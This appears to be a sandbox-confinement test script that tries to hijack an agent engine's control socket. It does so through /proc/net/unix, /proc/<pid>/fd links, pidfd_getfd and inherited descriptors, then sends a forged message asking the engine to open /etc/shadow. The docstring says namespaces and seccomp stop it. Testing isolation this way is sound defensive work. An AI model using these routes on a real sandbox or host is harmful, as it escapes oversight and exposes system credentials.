"""Looks for the socket to the engine in every process, takes it, and forges a message on it.

Unconfined the agent is a decoy that listens on an abstract socket and says its secret.

holds: pid namespace, seccomp, network namespace
unconfined: root
"""
import array
import os
import socket
import struct

from kit.attack import decoys, has_secret, processes, syscall, tries, unconfined

SPAWN, OPEN_READ = 2, 6


def by_name():
    """Every abstract and path name that is to be seen."""
    for line in open("/proc/net/unix").read().split("\n")[1:]:
        name = line.split()[7:]
        if not name:
            continue
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(1)
                s.connect("\0" + name[0][1:] if name[0][0] == "@" else name[0])
                if has_secret(s.recv(100)):
                    return name[0]
        except OSError:
            continue


def by_link():
    """Another process's descriptors, opened or only seen."""
    for pid in processes():
        status = open(f"/proc/{pid}/status").read() if os.path.exists(f"/proc/{pid}/status") else ""
        if pid == (decoys["pid"] if unconfined else 1) and status:
            return [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]


def by_pidfd():
    target, fd = (decoys["pid"], decoys["fd"]) if unconfined else (1, 3)
    got = syscall("pidfd_getfd", syscall("pidfd_open", target, 0), fd, 0)
    return socket.socket(fileno=got).getsockname() or "a socket"


def by_inheritance():
    """Whatever socket this process was given: is it answered when it speaks as the agent would?"""
    if unconfined:
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        theirs.send(b"answer")
        candidates = [ours]
    else:
        candidates = []
        for fd in range(64):
            try:
                candidates.append(socket.socket(fileno=os.dup(fd)))
            except OSError:
                continue
    for s in candidates:
        message = struct.pack("<IIiII", OPEN_READ, 7, 0, 1, 0) + b"/etc/shadow\0"
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1]))]
        s.settimeout(0.3)
        try:
            if s.type == socket.SOCK_SEQPACKET:
                s.sendmsg([message], rights)
                if s.recv(100):
                    return "an answer"
        except OSError:
            continue


tries({"name": by_name, "link": by_link, "pidfd": by_pidfd, "inheritance": by_inheritance})
